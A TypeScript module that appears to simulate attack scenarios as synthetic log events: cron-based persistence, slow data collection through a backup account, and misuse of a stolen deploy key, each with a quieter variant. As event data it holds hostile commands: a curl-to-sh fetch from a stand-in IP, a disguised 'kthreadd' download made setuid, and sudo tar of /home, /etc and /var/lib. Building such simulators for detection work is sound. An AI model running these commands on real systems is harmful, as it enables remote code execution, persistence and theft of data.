import { crontabEdit, cronRun } from '../daemons.js';
import type { Dice } from '../dice.js';
import { siteOf } from '../hosts.js';
import { sudo } from '../privilege.js';
import { DAY_MS, HOUR_MS, MINUTE_MS } from '../routine-people.js';
import { backupRun, deployRun } from '../routine-services.js';
import { openShell, reconnaissance } from './actions.js';
import { insider } from './quiet.js';
import type { Script, Stage } from './stage.js';
import { attackerPeer, Clock } from './stage.js';

/** Where a service account comes from and what it signs in with. */
function service({ known, sites }: Stage, user: string, dice: Dice): { address: string; key: string } {
  const usual = known.signIns(user).filter(({ interactive }) => !interactive);
  const kind = user === 'backup' ? 'mail' : 'build';
  const address = usual.at(-1)?.address ?? siteOf(sites, kind)?.address ?? '10.20.0.77';
  return { address, key: usual.at(-1)?.key ?? `ED25519 SHA256:${dice.fingerprint()}` };
}

/** A cron job runs more often than it should: something hangs on to it. */
export const cronExtraRun: Script = (stage) => {
  const { site, known, careful, dice, step, midnightMs } = stage;
  if (careful) {
    const jobs = known.cronJobs().filter(({ user }) => user !== 'root' && user !== 'www-data');
    const job = jobs.length > 0 ? dice.pick(jobs) : { user: 'backup', command: '/usr/local/sbin/backup-local' };
    const minute = dice.pick([138, 164, 187, 219]);
    // The same job, one run more every night, at an hour of its own.
    for (let night = 0; night < 4; night++) {
      const atMs = midnightMs + night * DAY_MS + minute * MINUTE_MS + 1100;
      step('run', site, () => cronRun(site, job.user, job.command, atMs, dice.between(40_000, 70_000)));
    }
    return;
  }
  const fromMs = midnightMs + dice.between(0.5, 2) * HOUR_MS;
  const who = insider(stage);
  const toMs = fromMs + 20 * MINUTE_MS;
  step('sign-in', site, () => openShell(site, attackerPeer(stage), who.name, fromMs, toMs, who.key));
  const shell = { site, user: who.name, tty: 'pts/0', fromMs, toMs };
  step('persistence', site, () => {
    sudo(shell, { atMs: fromMs + 30_000, command: '/usr/bin/crontab -u games -e', lastsMs: 22_000 });
    crontabEdit(site, 'games', fromMs + 30_100);
  });
  step('run', site, () => {
    for (let n = 0; n < 40; n++)
      cronRun(site, 'games', 'curl -fsS http://192.0.2.91/r | sh', fromMs + (6 + 5 * n) * MINUTE_MS, 900);
  });
};

/** The backup account takes the data away: more runs than one a night, and longer ones. */
export const slowCollection: Script = (stage) => {
  const { site, careful, dice, step, midnightMs } = stage;
  const { address, key } = service(stage, 'backup', dice);
  if (careful) {
    for (let day = 0; day < 3; day++) {
      for (let n = 0; n < 3; n++) {
        const atMs = midnightMs + day * DAY_MS + (5 + 5 * n + dice.between(0, 2)) * HOUR_MS;
        step('collection', site, () => backupRun(site, address, key, atMs, dice, dice.between(10, 25) * MINUTE_MS));
      }
    }
    return;
  }
  const fromMs = midnightMs + dice.between(2, 4) * HOUR_MS;
  const peer = attackerPeer(stage);
  for (let n = 0; n < 6; n++) {
    const atMs = fromMs + n * 12 * MINUTE_MS;
    step('sign-in', site, () =>
      openShell(site, { ...peer, port: peer.port + n }, 'backup', atMs, atMs + 10 * MINUTE_MS, key),
    );
    const shell = { site, user: 'backup', tty: 'pts/0', fromMs: atMs, toMs: atMs + 10 * MINUTE_MS };
    step('collection', site, () => {
      const clock = new Clock(atMs + 6000, 40_000, dice);
      for (const folder of ['/home', '/etc', '/var/lib'])
        sudo(shell, { atMs: clock.next(), command: `/usr/bin/tar czf - ${folder}`, lastsMs: 30_000 });
    });
  }
};

/** The deployment's key in other hands. */
export const serviceKeyTheft: Script = (stage) => {
  const { site, careful, dice, step, midnightMs } = stage;
  const { address, key } = service(stage, 'deploy', dice);
  if (careful) {
    // From the build host, in the usual order; wrong are the hour and the number.
    const fromMs = midnightMs + dice.between(19, 20.5) * HOUR_MS;
    for (let n = 0; n < 5; n++) {
      const atMs = fromMs + n * dice.between(22, 28) * MINUTE_MS;
      step('deployment', site, () => deployRun(site, address, key, atMs, dice));
    }
    return;
  }
  const fromMs = midnightMs + dice.between(1, 4) * HOUR_MS;
  const toMs = fromMs + 30 * MINUTE_MS;
  step('sign-in', site, () => openShell(site, attackerPeer(stage), 'deploy', fromMs, toMs, key));
  const shell = { site, user: 'deploy', tty: 'pts/0', fromMs, toMs };
  const clock = new Clock(fromMs + 9000, 25_000, dice);
  step('reconnaissance', site, () => reconnaissance(shell, clock, dice));
  step('persistence', site, () => {
    for (const command of [
      '/usr/bin/curl -o /usr/local/bin/kthreadd http://192.0.2.91/k',
      '/usr/bin/chmod 4755 /usr/local/bin/kthreadd',
    ])
      sudo(shell, { atMs: clock.next(), command });
  });
};
